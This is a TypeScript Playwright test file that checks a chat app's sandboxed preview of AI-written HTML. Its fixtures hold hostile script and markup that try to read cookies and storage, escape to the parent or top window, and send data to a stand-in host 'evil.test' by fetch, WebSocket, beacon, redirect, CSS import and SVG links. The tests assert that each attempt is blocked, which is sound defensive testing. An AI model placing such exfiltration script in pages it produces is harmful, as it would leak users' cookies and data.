import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { violations } from './axe.ts';
import { said, WebApp } from './web-app.ts';

let app: WebApp;
beforeAll(async () => {
  app = await WebApp.start({ agents: [{ agentId: 'ada', displayName: 'Ada' }] });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
}, 60_000);
afterAll(async () => {
  elsewhere.close();
  await app.close();
});

/** Another server, and everything that was asked of it. */
const asked: string[] = [];
const elsewhere = createServer((request, response) => {
  asked.push(request.url!);
  response.end();
});

const tab = (page: Page, name: string) =>
  page.getByRole('complementary', { name: 'Panels' }).getByRole('tab', { name });

const PAGE = `Look:

\`\`\`html
<!doctype html><title>x</title><h1 id="out">Waiting</h1>
<img src="https://evil.test/pixel.png"><link rel="stylesheet" href="https://evil.test/a.css">
<iframe src="https://evil.test/frame"></iframe><form action="https://evil.test/form"><button>go</button></form>
<script src="https://evil.test/script.js"></script>
<script>
const attempts = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  top: () => { top.location = 'https://evil.test/top'; return 'moved'; },
  popup: () => { if (open('https://evil.test/popup') === null) throw new Error('blocked'); },
  eval: () => eval('1 + 1'),
  peer: () => new RTCPeerConnection(),
};
const result = [];
for (const [name, attempt] of Object.entries(attempts)) {
  try { result.push(name + ' worked: ' + attempt()); } catch (error) { result.push(name + ' refused'); }
}
const late = [
  fetch('https://evil.test/fetch').then(() => 'fetch worked', () => 'fetch refused'),
  fetch('/api/sessions').then(() => 'own worked', () => 'own refused'),
  new Promise((resolve) => { try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => resolve('worker worked'); w.onerror = () => resolve('worker refused'); } catch { resolve('worker refused'); } }),
  new Promise((resolve) => { try { const s = new WebSocket('wss://evil.test'); s.onopen = () => resolve('socket worked'); s.onerror = () => resolve('socket refused'); } catch { resolve('socket refused'); } }),
];
navigator.sendBeacon?.('https://evil.test/beacon', 'x');
Promise.all(late).then((rest) => {
  parent.postMessage({ kind: 'drawn', height: 1e9, svg: '<b>' }, '*');
  document.getElementById('out').textContent = ['origin ' + origin, ...result, ...rest].join('; ');
  setTimeout(() => { location.href = 'https://evil.test/self?' + encodeURIComponent(result.join()); }, 2000);
});
</script>
\`\`\`

\`\`\`mermaid
graph TD; A[Start] --> B{Works?}; B -->|yes| C[Done]
\`\`\`

\`\`\`mermaid
graph TD; A[broken --> ((
\`\`\`
`;

async function withMarkup(markup: string): Promise<Page> {
  const { port } = elsewhere.address() as AddressInfo;
  const content = markup
    .replaceAll('https://evil.test', `http://127.0.0.1:${port}`)
    .replaceAll('wss://evil.test', `ws://127.0.0.1:${port}`);
  const messages = [
    { role: 'user', content: 'Draw' },
    { role: 'assistant', agent: 'ada', content },
  ];
  const { id } = await app.parley.ok<{ id: string }>('POST', '/api/imports', { agent: 'ada', messages });
  const page = await app.open(`/sessions/${id}`);
  await said(page, 'Look:').waitFor();
  return page;
}

test('a page that a model wrote runs in a frame that reaches neither cookies nor the app nor any network', {
  timeout: 60_000,
}, async () => {
  const page = await withMarkup(PAGE);
  const trouble = app.trouble.length;
  await page.getByRole('button', { name: 'Open preview' }).first().click();
  await tab(page, 'Web page').waitFor();
  const frame = page.frameLocator('iframe[title="Web page"]');
  await expect.poll(() => frame.locator('#out').textContent()).toContain('own ');
  const words = (await frame.locator('#out').textContent())!;
  expect(words.split('; ')).toEqual([
    'origin null',
    ...['cookie', 'storage', 'parent', 'top', 'popup', 'eval', 'peer'].map((name) => `${name} refused`),
    'fetch refused',
    'own refused',
    'worker refused',
    'socket refused',
  ]);
  await app.shot(page, 'preview');
  // It also tries to leave with what it knows, after two seconds.
  await expect
    .poll(
      () =>
        page
          .frames()
          .map((one) => one.url())
          .join(' '),
      { timeout: 10_000 },
    )
    .toContain('chrome-error');
  expect(asked).toEqual([]);
  expect(new URL(page.url()).origin).toBe(app.parley.url);
  // The policy of the frame refuses each of these and says so.
  const told = app.trouble.splice(trouble);
  expect(told.filter((line) => !/^(?:policy|request): /.test(line))).toEqual([]);
});

test.each([
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">'],
  [
    'a link to fetch ahead',
    '<link rel="prefetch" href="https://evil.test/prefetch"><link rel="preconnect" href="https://evil.test">',
  ],
  [
    'a frame in the frame',
    "<iframe srcdoc=\"<script>fetch('https://evil.test/inner');new Image().src='https://evil.test/inner-image'</script>\"></iframe>",
  ],
  [
    'a style',
    '<style>@import "https://evil.test/style"; body { background: url(https://evil.test/background) }</style>',
  ],
  [
    'a drawing',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.test/image"/><use href="https://evil.test/use#a"/></svg>',
  ],
])('%s leads nowhere', { timeout: 30_000 }, async (_, markup) => {
  const page = await withMarkup(`Look:\n\n\`\`\`html\n${markup}<p>Here</p>\n\`\`\`\n`);
  const trouble = app.trouble.length;
  await page.getByRole('button', { name: 'Open preview' }).click();
  await page.locator('iframe[title="Web page"]').waitFor();
  await page.waitForTimeout(1500);
  expect(asked).toEqual([]);
  app.trouble.splice(trouble);
});

test('a diagram is drawn where it stands; one that cannot be is shown as its source with the reason', {
  timeout: 90_000,
}, async () => {
  const page = await withMarkup(PAGE);
  const diagram = page.getByRole('log').frameLocator('iframe[title="Diagram"]').first();
  await diagram.locator('svg').getByText('Works?').first().waitFor();
  await page
    .getByRole('log')
    .getByText(/Couldn't draw this diagram/)
    .waitFor();
  await page.getByRole('log').getByText('graph TD; A[broken --> ((').waitFor();
  await app.shot(page, 'diagram');
  await page.getByRole('button', { name: 'Show source' }).first().click();
  await page.getByRole('log').getByText('graph TD; A[Start]').waitFor();
  await page.getByRole('button', { name: 'Show diagram' }).first().click();
  await diagram.locator('svg').getByText('Works?').first().waitFor();
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(() => page.evaluate('document.documentElement.dataset.theme')).toBe('dark');
  await diagram.locator('svg').getByText('Works?').first().waitFor();
  await app.shot(page, 'diagram-dark');
  expect(await violations(page)).toEqual([]);
  const frames = await page.evaluate(`performance.getEntriesByType('resource').map((entry) => entry.name)`);
  expect(JSON.stringify(frames)).not.toContain('mermaid');
  expect(app.trouble).toEqual([]);
});
